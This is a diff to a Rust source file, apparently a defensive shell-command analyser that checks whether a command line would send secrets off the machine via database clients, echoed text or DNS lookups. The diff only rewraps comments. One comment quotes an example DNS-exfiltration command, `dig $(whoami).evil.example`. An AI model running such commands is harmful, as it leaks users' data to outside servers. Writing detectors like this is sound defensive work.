@@ -1,4 +1,5 @@
-//! Would secrets leave the machine: which come up on the line, and does anything on it carry them away?
+//! Would secrets leave the machine: which come up on the line, and does anything on it carry them
+//! away?
 
 use tenterhook_shell::Context;
 
@@ -71,7 +72,8 @@ pub(super) fn look(views: &[View<'_>], groups: &[Redirected], found: &mut Found)
         asked |= statements(view, found);
     }
     if asked {
-        // The text echoed into a client is not distinguished from text echoed elsewhere on the line.
+        // The text echoed into a client is not distinguished from text echoed elsewhere on the
+        // line.
         let echoed =
             views.iter().filter(|view| matches!(view.name.as_str(), "echo" | "printf" | "cat"));
         found.sql.extend(echoed.flat_map(|view| view.texts().map(str::to_owned)));
@@ -140,7 +142,8 @@ fn secret_variables(text: &str) -> Vec<String> {
     names.filter(secret).map(str::to_owned).collect()
 }
 
-/// `dig $(whoami).evil.example`: a name that is computed and then asked for is a message to the server that answers.
+/// `dig $(whoami).evil.example`: a name that is computed and then asked for is a message to the
+/// server that answers.
 fn names(view: &View<'_>, found: &mut Found) {
     if !RESOLVERS.contains(&view.name.as_str()) {
         return;
@@ -180,7 +183,8 @@ const CLIENTS: &[&str] = &[
     "mycli",
 ];
 
-/// What a database client is handed: arguments and here-documents; and whether something may be echoed into it.
+/// What a database client is handed: arguments and here-documents; and whether something may be
+/// echoed into it.
 fn statements(view: &View<'_>, found: &mut Found) -> bool {
     let name = view.name.as_str();
     if !CLIENTS.contains(&name) {
